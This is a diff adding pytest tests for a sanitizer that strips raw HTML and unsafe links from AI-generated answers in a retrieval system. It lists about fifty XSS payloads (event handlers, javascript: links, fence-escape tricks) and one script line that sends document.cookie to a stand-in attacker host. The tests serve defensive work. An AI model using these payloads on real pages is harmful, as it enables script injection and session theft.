@@ -113,3 +113,152 @@ def test_extractive_answers_keep_the_urls_they_quote():
     answer = extractive_answer("Где описаны повторные попытки?", hits)
     assert "https://docs.example.org/retries" in answer
     assert sanitize_links(answer, [HONEST]) == (answer, [])
+
+
+# ------------------------------------------------------------------------------------ raw HTML
+#: a cited chunk that happens to contain every word the payloads below use as a URL, so the link
+#: rules alone would let each of them through
+WORDY = (
+    "Раздел x описывает a, b и 1; см. https://docs.example.org/retries и https://docs.example.org/s.css. "
+    "Слова: javascript, url, style, data, srcdoc, refresh, import."
+)
+#: HTML that fetches or runs, written the ways a model (or a poisoned chunk it quotes) could write it
+HOSTILE = [
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://docs.example.org/retries" onerror="alert(1)">',
+    "<IMG SRC=x ONERROR=alert(1)>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img\nsrc=x\nonerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href=x onmouseover=alert(1)>наведи</a>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<div style="background:url(https://evil.example/p.png)">x</div>',
+    '<div style="background:url(x)">x</div>',
+    '<x style="behavior:url(x)">',
+    '<meta http-equiv="refresh" content="0;url=x">',
+    '<meta http-equiv="refresh" content="0;url=https://docs.example.org/retries">',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<iframe src=x></iframe>",
+    "<style>@import 'x';</style>",
+    "<style>@import url(https://docs.example.org/s.css);</style>",
+    "<script>fetch('https://evil.example/?q='+document.cookie)</script>",
+    "<script src=x></script>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<link rel=stylesheet href=https://docs.example.org/s.css>",
+    "<object data=x></object>",
+    "<embed src=x>",
+    "<form action=x><input type=submit></form>",
+    "<base href=https://docs.example.org/retries>",
+    "<table background=x><tr><td>1</td></tr></table>",
+    '<img srcset="x 1x">',
+    "<video><source onerror=alert(1)></video>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    '<?xml version="1.0"?><x onload=alert(1)>',
+    "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
+    # a link the rules remove, which joins "<" to the tag name behind it
+    "<[a](https://evil.example/a)img src=x onerror=alert(1)>",
+    # what looks like code to a careless reader and is not code to a renderer
+    "\\`<img src=x onerror=alert(1)>`",
+    "``<img src=x onerror=alert(1)>`",
+    "`a\n\n<img src=x onerror=alert(1)>`",
+    "`a\n# <img src=x onerror=alert(1)>`",
+    "<https://docs.example.org/retries`> <img src=x onerror=alert(1)> `",
+    "- пункт\n  ```\n  код\n<img src=x onerror=alert(1)>\n",
+    "> ```\n<img src=x onerror=alert(1)>\n",
+    " ```\n<img src=x onerror=alert(1)>\n```",
+    "```a`b\n<img src=x onerror=alert(1)>\n```",
+    "```\nкод\n ```\n<img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+]
+#: the elements and attributes Markdown itself produces; anything else came from raw HTML
+MARKDOWN_TAGS = frozenset(
+    "p a img code pre em strong ul ol li h1 h2 h3 h4 h5 h6 blockquote hr br table thead tbody tr th td s del".split()
+)
+MARKDOWN_ATTRS = frozenset({"href", "src", "alt", "title", "class", "start", "style"})
+
+
+def rendered_elements(answer: str) -> list[tuple[str, dict[str, str]]]:
+    """Every element two CommonMark renderers with raw HTML on (what a careless chat UI runs)
+    build from ``answer``."""
+    from html.parser import HTMLParser
+
+    from markdown_it import MarkdownIt
+
+    found: list[tuple[str, dict[str, str]]] = []
+
+    class Collect(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, {k: v or "" for k, v in attrs}))
+
+        def handle_startendtag(self, tag, attrs):
+            self.handle_starttag(tag, attrs)
+
+        def handle_comment(self, data):
+            found.append(("!--", {}))
+
+        def handle_decl(self, decl):
+            found.append(("!", {}))
+
+        def handle_pi(self, data):
+            found.append(("?", {}))
+
+        def unknown_decl(self, data):
+            found.append(("![", {}))
+
+    for preset in ("commonmark", "gfm-like"):
+        md = MarkdownIt(preset, {"html": True, "linkify": False})
+        Collect().feed(md.render(answer))
+    return found
+
+
+def assert_inert(answer: str, sources: list[str]) -> None:
+    for tag, attrs in rendered_elements(answer):
+        assert tag in MARKDOWN_TAGS, (tag, answer)
+        assert set(attrs) <= MARKDOWN_ATTRS - {"style"} or tag in ("th", "td"), (tag, attrs, answer)
+        if tag in ("th", "td"):  # tables align columns with a style markdown-it writes itself
+            assert attrs.get("style", "text-align:").startswith("text-align:"), (attrs, answer)
+        if "class" in attrs:  # a fence's info string, on the code element only
+            assert tag == "code" and attrs["class"].startswith("language-"), (tag, attrs, answer)
+        for key in ("href", "src"):
+            if key in attrs:
+                assert allowed(attrs[key], sources), (tag, attrs, answer)
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_hostile_html_comes_out_inert_even_when_the_cited_chunk_holds_its_urls(payload):
+    answer = f"Ответ на вопрос [1]. {payload} Конец [1]."
+    clean, _ = sanitize_links(answer, [WORDY])
+    assert_inert(clean, [WORDY])
+    assert clean.startswith("Ответ на вопрос [1].") and clean.endswith("Конец [1].")
+    assert sanitize_links(clean, [WORDY]) == (clean, [])  # idempotent
+
+
+ORDINARY = [
+    # code with "<" in it: a fence, a tilde fence, an inline span, a double-backtick span
+    "Сравнение [1]:\n\n```python\nif a < b and c > d:\n    print('<ok>')\n```\n\nГотово.",
+    'Шаблон [1]:\n\n~~~html\n<div class="x"><img src="y"></div>\n~~~\n',
+    "Тип `List<String>` и тег `<br>` [1].",
+    "Выражение ``a <b> `c` `` в коде [1].",
+    # links, images and autolinks to the cited documents, citations, ordinary prose with "<"
+    "См. [руководство](https://docs.example.org/retries) и <https://docs.example.org/retries> [1].",
+    "Схема: ![схема повторов](https://docs.example.org/img/retry.png) [1]",
+    "Если a < b и 3<5, то **да** [1].\n\n- пункт\n- второй\n\n> цитата [1]\n\n# Заголовок",
+    "| a | b |\n|---|---|\n| 1 | 2 |\n\nТаблица [1].",
+]
+
+
+@pytest.mark.parametrize("answer", ORDINARY)
+def test_ordinary_markdown_answers_pass_unchanged(answer):
+    sources = [HONEST]
+    assert sanitize_links(answer, sources) == (answer, [])
+    assert_inert(answer, sources)
